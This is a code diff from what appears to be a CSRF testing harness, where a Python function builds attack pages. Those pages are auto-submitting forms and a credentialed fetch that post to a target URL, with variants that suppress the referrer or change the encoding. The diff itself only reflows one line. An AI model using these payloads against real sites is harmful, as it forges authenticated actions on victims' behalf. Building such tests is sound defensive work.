@@ -101,7 +101,8 @@ def attacks(base: str, fields: dict[str, str]) -> dict[str, str]:
     return {
         "/plain": f'<form method="post" action="{to}">{inputs}</form>{go}',
         "/confirm": f'<form method="post" action="{base}{CONFIRM}">{inputs}</form>{go}',
-        "/no-referrer": f'<meta name="referrer" content="no-referrer"><form method="post" action="{to}">{inputs}</form>{go}',
+        "/no-referrer": f'<meta name="referrer" content="no-referrer">'
+        f'<form method="post" action="{to}">{inputs}</form>{go}',
         "/multipart": f'<form method="post" enctype="multipart/form-data" action="{to}">{inputs}</form>{go}',
         "/text": f'<form method="post" enctype="text/plain" action="{to}">{inputs}</form>{go}',
         "/fetch": f"<script>fetch('{to}', {{method: 'POST', mode: 'no-cors', credentials: 'include', "
